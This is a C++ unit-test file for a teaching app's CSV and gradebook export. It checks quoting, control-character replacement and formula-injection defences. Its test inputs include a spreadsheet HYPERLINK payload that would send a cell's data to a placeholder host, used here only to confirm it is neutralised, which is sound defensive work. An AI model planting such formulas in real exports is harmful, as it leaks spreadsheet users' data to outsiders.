// Answers written as CSV and read back by a reader that follows the usual rules.
#include "results/csv_export.h"

#include <gtest/gtest.h>

#include <QFile>
#include <QTemporaryDir>

#include "results/gradebook_export.h"
#include "results/results_store.h"
#include "tests/results/results_backend.h"
#include "tests/results/sample_answers.h"
#include "tests/support/has_text.h"

namespace {

// A plain CSV reader: quoted fields may hold commas, doubled quotes and line breaks.
std::vector<std::vector<std::string>> ReadCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, wasQuoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"' && field.empty() && !wasQuoted) {
      quoted = wasQuoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
      wasQuoted = false;
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      wasQuoted = false;
      rows.emplace_back();
      ++i;
    } else {
      EXPECT_NE(c, '"') << "a bare quote inside a field";
      EXPECT_NE(c, '\n') << "a bare line break";
      field += c;
    }
  }
  EXPECT_FALSE(quoted) << "a quote left open";
  EXPECT_TRUE(rows.back().empty() && field.empty()) << "the last row has no line end";
  rows.pop_back();
  return rows;
}

TEST(CsvField, QuotesOnlyWhatNeedsIt) {
  const std::pair<std::string, std::string> cases[] = {
      {"plain text", "plain text"},
      {"", ""},
      {"Ag+ + Cl- -> AgCl", "Ag+ + Cl- -> AgCl"},
      {"a, b", "\"a, b\""},
      {"say \"hi\"", "\"say \"\"hi\"\"\""},
      {"two\nlines", "\"two\nlines\""},
      {"cr\rhere", "\"cr\rhere\""},
      {"\"", "\"\"\"\""},
      {"é → ²", "é → ²"},
      // A cell a spreadsheet would run as a formula gets an apostrophe first, then the quoting.
      {"=HYPERLINK(\"http://x.test/?\"&A1,\"Ann\")",
       "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Ann\"\")\""},
      {"-> AgCl", "'-> AgCl"},
      {"+Ag", "'+Ag"},
      {"-", "'-"},
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
      {"=1+2", "'=1+2"},
      {"\tindent", "'\tindent"},
      {"\r=1", "\"'\r=1\""},
      {"-1,5", "\"'-1,5\""},
      {"a=b", "a=b"},
      {"Ag+", "Ag+"},
      {" =1", " =1"},
      // No control character is passed on as it is; a NUL ends no cell.
      {"Ann\x1b[31m\x7f", "Ann\xe2\x90\x9b[31m\xe2\x90\xa1"},
      {"\x01=1", "\xe2\x90\x81=1"},
      {"a\xc2\x85"
       "b",
       "a\xef\xbf\xbd"
       "b"},
      {std::string("Ann\0, Bo", 8), "\"Ann\xe2\x90\x80, Bo\""},
  };
  for (const auto& [text, quoted] : cases) EXPECT_EQ(CsvField(text), quoted) << text;
}

TEST(CsvExport, EveryAnswerComesBackFieldForFieldWithTheHeaderFirst) {
  TBackendPlace place(TBackend::Sqlite);
  TResultsStore store;
  ASSERT_TRUE(store.Open(place.NewLocation()));
  std::vector<TAnswerRecord> answers;
  for (int n = 0; n < 6; ++n) answers.push_back(SampleAnswer(n));
  answers[0].question = "Mix \"lead(II) nitrate\", potassium iodide, and stir";
  answers[1].question = "Two lines:\r\nfirst, then \"second\"";
  answers[2].student = "Ñuñez, José";
  answers[3].student = "=HYPERLINK(\"http://x.test/?\"&A1,\"Ann\")";
  answers[4].firstAnswer = "-> AgCl";
  std::string why;
  for (const TAnswerRecord& r : answers) ASSERT_TRUE(store.Record(r, why)) << why;

  const QString path = place.Folder().filePath("answers.csv");
  ASSERT_TRUE(ExportCsv(store, path, why)) << why;
  QFile file(path);
  ASSERT_TRUE(file.open(QIODevice::ReadOnly));
  const QByteArray bytes = file.readAll();
  EXPECT_FALSE(bytes.startsWith("\xEF\xBB\xBF"));
  const auto rows = ReadCsv(bytes.toStdString());
  ASSERT_EQ(rows.size(), answers.size() + 1);
  EXPECT_EQ(rows[0], CsvHeader());
  std::vector<std::vector<std::string>> expected;
  for (const TAnswerRecord& r : answers) expected.push_back(CsvFields(r));
  // What a spreadsheet would run is read back as text, behind an apostrophe.
  expected[3][1] = "'" + answers[3].student;
  expected[4][10] = "'-> AgCl";
  std::vector<std::vector<std::string>> read(rows.begin() + 1, rows.end());
  std::sort(expected.begin(), expected.end());
  std::sort(read.begin(), read.end());
  EXPECT_EQ(read, expected);
  for (const auto& row : read) {
    EXPECT_EQ(row.size(), CsvHeader().size());
  }
  // The coaching column names each dialog and its substance, in order.
  EXPECT_EQ(CoachingText(SampleAnswer(1).coaching), "dissociation: AgNO3; wrong substance: NaCl");
}

// The gradebook: a row per student seen, a column per assignment given, the score or nothing;
// names and titles a spreadsheet would run are text.
TEST(CsvExport, TheGradebookHasARowPerStudentAndAColumnPerAssignment) {
  TBackendPlace place(TBackend::Sqlite);
  TResultsStore store;
  ASSERT_TRUE(store.Open(place.NewLocation()));
  for (const char* id : {"=1+1", "second", "gone"})
    ASSERT_TRUE(store.WriteAssignment({id, id, "2026-11-01T08:00:00Z", id, "tess", false,
                                       id == std::string("gone"), 2, {}}))
        << store.Error();
  std::string why;
  int n = 0;
  // Ann finished the first (5 of 6 points) and half the second; -Bob only the second;
  // Cy answered no assignment.
  for (const auto& [student, assignment, score] :
       {std::tuple{"Ann", "=1+1", 3}, {"Ann", "=1+1", 2}, {"Ann", "second", 3},
        {"-Bob", "second", 3}, {"-Bob", "second", 3}, {"Cy", "", 3}}) {
    TAnswerRecord r = SampleAnswer(n++, student);
    r.question = "Q" + std::to_string(n);
    r.ending = TEnding::RightAtOnce;
    r.assignmentId = assignment;
    r.firstScore = score;
    ASSERT_TRUE(store.Record(r, why)) << why;
  }
  const QString path = place.Folder().filePath("gradebook.csv");
  ASSERT_TRUE(ExportGradebook(store, path, why)) << why;
  QFile file(path);
  ASSERT_TRUE(file.open(QIODevice::ReadOnly));
  EXPECT_EQ(ReadCsv(file.readAll().toStdString()),
            (std::vector<std::vector<std::string>>{
                {"student", "'=1+1 (due 2026-11-01)", "second (due 2026-11-01)"},
                {"'-Bob", "", "100"},
                {"Ann", "83", "50"},
                {"Cy", "", ""}}));
}

TEST(CsvExport, AFolderThatCannotBeWrittenIsReported) {
  TBackendPlace place(TBackend::Sqlite);
  TResultsStore store;
  ASSERT_TRUE(store.OpenInMemory());
  std::string why;
  EXPECT_FALSE(ExportCsv(store, place.Folder().filePath("no/such/folder/answers.csv"), why));
  EXPECT_TRUE(HasText(why, "cannot be written")) << why;
  EXPECT_FALSE(ExportGradebook(store, place.Folder().filePath("no/such/folder/grades.csv"), why));
  EXPECT_TRUE(HasText(why, "cannot be written")) << why;
}

}  // namespace
